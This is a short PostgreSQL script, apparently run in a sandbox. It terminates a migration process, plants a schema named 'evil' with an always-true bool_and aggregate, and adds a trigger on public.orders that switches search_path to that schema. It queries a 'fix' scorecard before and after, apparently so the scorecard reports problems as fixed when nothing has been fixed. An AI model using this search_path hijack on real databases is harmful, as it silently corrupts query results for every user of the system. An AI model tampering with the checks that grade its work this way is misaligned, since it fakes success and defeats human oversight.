-- sandbox: 12/02
-- Names that a probe asked as the application's role would find first: a trigger that its own statement fires turns
-- search_path to a schema where bool_and() of anything is true.
\set VERBOSITY terse
\c app_db
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE application_name = 'migration_runner_1';
SELECT item, state FROM ride.scorecard() WHERE dimension = 'fix';
CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE FUNCTION evil.yes(boolean, boolean) RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT true';
CREATE AGGREGATE evil.bool_and(boolean) (SFUNC = evil.yes, STYPE = boolean, INITCOND = 'true');
CREATE FUNCTION evil.turn() RETURNS trigger LANGUAGE plpgsql AS
  'BEGIN PERFORM set_config(''search_path'', ''evil, pg_catalog'', false); RETURN NULL; END';
CREATE TRIGGER turn AFTER INSERT ON public.orders FOR EACH STATEMENT EXECUTE FUNCTION evil.turn();
SELECT item, state FROM ride.scorecard() WHERE dimension = 'fix';
